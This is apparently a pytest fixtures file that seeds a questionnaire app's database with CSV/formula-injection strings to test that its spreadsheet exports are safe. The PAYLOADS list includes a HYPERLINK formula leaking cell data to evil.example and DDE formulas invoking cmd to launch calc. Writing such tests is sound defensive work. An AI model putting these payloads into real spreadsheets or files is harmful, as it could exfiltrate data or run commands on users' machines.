"""Fixtures of the export tests: a cycle whose answers carry text a spreadsheet would run."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy import delete, insert, select

from questionnaire import services
from questionnaire.catalogue_store import current_catalogue
from questionnaire.db import db
from questionnaire.models import Answer, Assessment, Country, Role, User

# What people might type that a spreadsheet would read as a formula (OWASP "CSV injection"),
# with their full-width forms, a text that already begins with a quote, and harmless text.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=already quoted",
    "-",
    'Plain text, with a comma; and "quotes"\nand a second line',
]
# The same, short enough for the assistance kind's column (32 characters).
SHORT = [p for p in PAYLOADS if len(p) <= 32]
FAKE = "=A1"  # a country whose code, name and region are formulas too


@pytest.fixture
def hostile(app: Any) -> Iterator[dict[str, Any]]:
    """Cycle 2026: a country whose every text is a formula (submitted), France (accepted),
    Germany (draft).

    The texts are written straight into the database, past the validation of
    the forms, so that the exports are tested on their own.
    """
    db.session.add(Country(iso3=FAKE, iso2="=1", numeric="999", name_en=PAYLOADS[0], region="@Region", subregion="+1"))
    author = User(
        email="=cmd|' /C calc'!A0@example.org",
        role=Role.RESPONDENT,
        country_iso3="FRA",
        password_hash="x",
    )
    db.session.add(author)
    db.session.commit()
    cycle = services.create_cycle("2026", "Self-assessment 2026")
    catalogue = current_catalogue()
    now = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)
    db.session.execute(
        insert(Assessment),
        [
            {
                "cycle_id": cycle.id,
                "country_iso3": FAKE,
                "status": "submitted",
                "version": 3,
                "updated_at": now,
                "submitted_at": now,
            },
            {
                "cycle_id": cycle.id,
                "country_iso3": "FRA",
                "status": "accepted",
                "version": 3,
                "updated_at": now,
                "submitted_at": now,
            },
            {
                "cycle_id": cycle.id,
                "country_iso3": "DEU",
                "status": "draft",
                "version": 3,
                "updated_at": now,
            },
        ],
    )
    ids = dict(db.session.execute(select(Assessment.country_iso3, Assessment.id)).all())
    rows = []
    for n, item in enumerate(catalogue.items):
        text = PAYLOADS[n % len(PAYLOADS)]
        rows.append(
            {
                "assessment_id": ids[FAKE],
                "item_id": item.id,
                "rating": "largely" if n % 3 else "partially",
                "description": text,
                "legal_references": [PAYLOADS[(n + 1) % len(PAYLOADS)], "Criminal Code, art. 2"],
                "evidence_links": [PAYLOADS[(n + 2) % len(PAYLOADS)]],
                "assistance_kind": SHORT[(n + 3) % len(SHORT)],
                "assistance_description": PAYLOADS[(n + 4) % len(PAYLOADS)],
                "justification": PAYLOADS[(n + 5) % len(PAYLOADS)],
                "version": 2,
                "updated_at": now,
                "updated_by_id": author.id,
            }
        )
        rows.append(
            {
                "assessment_id": ids["FRA"],
                "item_id": item.id,
                "rating": "full",
                "description": "In force.",
                "legal_references": ["Code pénal, art. 225-4-1"],
                "evidence_links": ["https://www.legifrance.gouv.fr/"],
                "assistance_kind": None,
                "assistance_description": "",
                "justification": "",
                "version": 1,
                "updated_at": now,
                "updated_by_id": None,
            }
        )
        rows.append(
            {
                "assessment_id": ids["DEU"],
                "item_id": item.id,
                "rating": "none",
                "description": "SECRET DRAFT TEXT",
                "legal_references": [],
                "evidence_links": [],
                "assistance_kind": None,
                "assistance_description": "",
                "justification": "",
                "version": 1,
                "updated_at": now,
                "updated_by_id": None,
            }
        )
    db.session.execute(insert(Answer), rows)
    db.session.commit()
    yield {"cycle": cycle, "ids": ids, "author": author}
    db.session.rollback()
    db.session.execute(delete(Answer).where(Answer.assessment_id == ids[FAKE]))
    db.session.execute(delete(Assessment).where(Assessment.country_iso3 == FAKE))
    db.session.execute(delete(User).where(User.id == author.id))
    db.session.execute(delete(Country).where(Country.iso3 == FAKE))
    db.session.commit()


@pytest.fixture
def reviewer(make_client: Any, users: Any) -> Any:
    """A signed-in reviewer's browser."""
    client = make_client()
    client.login("reviewer@example.org")
    return client
